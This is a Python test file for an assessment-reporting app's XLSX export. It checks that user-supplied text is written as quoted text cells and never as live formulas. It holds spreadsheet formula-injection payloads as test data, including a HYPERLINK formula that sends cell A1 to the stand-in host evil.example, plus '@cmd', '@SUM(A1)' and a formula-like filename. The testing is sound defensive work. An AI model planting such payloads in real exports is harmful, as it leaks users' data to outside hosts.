"""Exported XLSX: user text (adjustment reasons, imported notes, task titles) is a text cell,
never a live formula; numbers stay numbers."""

from __future__ import annotations

import io
from datetime import date

from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell
from sqlalchemy.orm import Session

from tests.security.import_paths import csv_bytes
from tongban.assessment import importers
from tongban.assessment import service as assessment
from tongban.core.export import write_cell
from tongban.core.security import SYSTEM_ACTOR
from tongban.org import service as org_service
from tongban.rectification import service as rectification
from tongban.rectification.enums import TaskSource
from tongban.reports import service as reports
from tongban.reports.enums import ReportFormat, ReportKind
from tongban.reports.service import ReportRequest

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
PAYLOADS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def xlsx_of(db: Session, request: ReportRequest) -> Workbook:
    document = reports.build(db, actor=SYSTEM_ACTOR, request=request)
    return load_workbook(io.BytesIO(reports.render(document)[ReportFormat.xlsx]))


def cells_holding(book: Workbook, texts: list[str]) -> dict[str, Cell]:
    found: dict[str, Cell] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if cell.value in texts:
                    found[str(cell.value)] = cell  # type: ignore[assignment]
    return found


def assert_text_as_typed(cells: dict[str, Cell], texts: list[str]) -> None:
    assert sorted(cells) == sorted(texts)
    for text, cell in cells.items():
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True), text


def test_adjustment_reasons_and_imported_notes_are_text_in_the_monthly_xlsx(
        db: Session) -> None:
    cohort = assessment.get_cohort(db, code="sichuan-cities")
    scheme = assessment.scheme_for(db, cohort=cohort, period="2026-04")
    assessment.record_adjustment(db, actor=SYSTEM_ACTOR, period="2026-04",
                                 org=org_service.resolve_org(db, ref="达州"), points=-0.5,
                                 reason=HYPERLINK, scheme_code=scheme.code)
    notes = ["+1+1", "-2+3", "@SUM(A1)", "=1+1"]  # an import strips a cell's spaces and tabs
    sheet = csv_bytes([["period", "org", "indicator", "points", "note"],
                       *(["2026-04", "巴中", "扣分", f"0.{n + 1}", note]
                         for n, note in enumerate(notes))])
    importers.import_file(db, actor=SYSTEM_ACTOR, source=io.BytesIO(sheet),
                          filename="=通报.csv", cohort_code="sichuan-cities")
    assessment.compute_sheet(db, actor=SYSTEM_ACTOR, cohort_code="sichuan-cities",
                             period="2026-04")
    book = xlsx_of(db, ReportRequest(ReportKind.monthly, cohort="sichuan-cities",
                                     period="2026-04"))
    texts = [HYPERLINK, *notes]  # sources are cited by name, not by the file's name and line
    assert_text_as_typed(cells_holding(book, texts), texts)
    assert not [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
                if isinstance(c.value, str) and "=通报.csv" in c.value]
    points = [row[1].value for row in book["加扣分"].iter_rows(min_row=2)]
    assert all(isinstance(p, float) for p in points) and -0.5 in points


def test_task_titles_are_text_in_the_weekly_xlsx(db: Session) -> None:
    titles = ["=1+2", "@cmd", "-1-1"]
    for title in titles:
        rectification.create_task(
            db, actor=SYSTEM_ACTOR, source=TaskSource.city_inspection, category="事项认领",
            title=title, org=org_service.resolve_org(db, ref="恩阳区"),
            issued_on=date(2026, 12, 1), due_on=date(2026, 12, 4),
            lines=[rectification.LineInput("", "事项", "未认领")])
    book = xlsx_of(db, ReportRequest(ReportKind.weekly, as_of=date(2026, 12, 7)))
    assert_text_as_typed(cells_holding(book, titles), titles)


def test_write_cell_keeps_numbers_numbers_and_every_text_text() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row, value in enumerate([2.6, -3, "#N/A", "普通文字", "a\x01b", *PAYLOADS], start=1):
        write_cell(sheet, row, 1, value)
    out = io.BytesIO()
    book.save(out)
    read = load_workbook(io.BytesIO(out.getvalue())).active
    assert read is not None
    cells = [read.cell(row=n, column=1) for n in range(1, 6 + len(PAYLOADS))]
    assert [(c.data_type, c.value) for c in cells[:5]] == [
        ("n", 2.6), ("n", -3), ("s", "#N/A"), ("s", "普通文字"), ("s", "ab")]
    assert [c.quotePrefix for c in cells[:5]] == [False] * 5
    assert [(c.data_type, c.value, c.quotePrefix) for c in cells[5:]] == [
        ("s", p, True) for p in PAYLOADS]
